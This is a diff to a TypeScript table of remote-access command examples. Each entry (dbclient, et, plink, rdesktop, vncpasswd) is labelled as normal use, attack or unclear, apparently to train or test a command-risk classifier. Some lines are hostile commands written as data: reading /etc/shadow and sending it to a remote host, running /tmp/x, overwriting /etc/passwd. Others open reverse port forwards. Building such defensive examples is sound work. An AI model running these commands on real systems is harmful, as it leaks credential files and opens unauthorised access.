@@ -14,6 +14,7 @@ export const remoteAccess1: ExampleTable = {
       'dbclient db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
       'dbclient -J /tmp/x db.example.org cat notes.txt → run /tmp/x; read notes.txt; send db.example.org',
     ],
+    unclear: [`dbclient -R 2022:localhost:22 ops@box.example.org → who comes in by it`],
   },
   dsh: {
     use: 'dsh -m web1 cat notes.txt → read notes.txt; send web1',
@@ -25,6 +26,7 @@ export const remoteAccess1: ExampleTable = {
   et: {
     use: `et db.example.org -c 'cat notes.txt' → read notes.txt; send db.example.org`,
     attack: `et db.example.org -c 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
+    unclear: [`et -r 2022:22 box.example.org:2022 → who comes in by it`],
   },
   mosh: {
     use: 'mosh db.example.org -- cat notes.txt → read notes.txt; send db.example.org',
@@ -45,6 +47,7 @@ export const remoteAccess1: ExampleTable = {
       'plink -m /etc/shadow db.example.org → read /etc/shadow; send db.example.org',
       'plink -proxycmd /tmp/x db.example.org → run /tmp/x; send db.example.org',
     ],
+    unclear: [`plink -batch -R 13389:127.0.0.1:3389 ops@box.example.org → who comes in by it`],
   },
   pssh: {
     use: 'pssh -h hosts.txt -i cat notes.txt → read hosts.txt; read notes.txt',
@@ -131,7 +134,11 @@ export const remoteAccess1: ExampleTable = {
   },
   krdc: { use: 'krdc rdp://db.example.org → send rdp://db.example.org' },
   novnc: { use: 'novnc --listen 6080 --vnc localhost:5900 → listen 6080' },
-  rdesktop: { use: 'rdesktop db.example.org → send db.example.org' },
+  rdesktop: {
+    use: 'rdesktop db.example.org → send db.example.org',
+    unclear:
+      'rdesktop -r disk:home=/home/tim term.example.org → who reads the folder that it shares',
+  },
   vncpasswd: {
     use: 'vncpasswd .vnc/passwd → write .vnc/passwd',
     attack: 'vncpasswd /etc/passwd → write /etc/passwd',
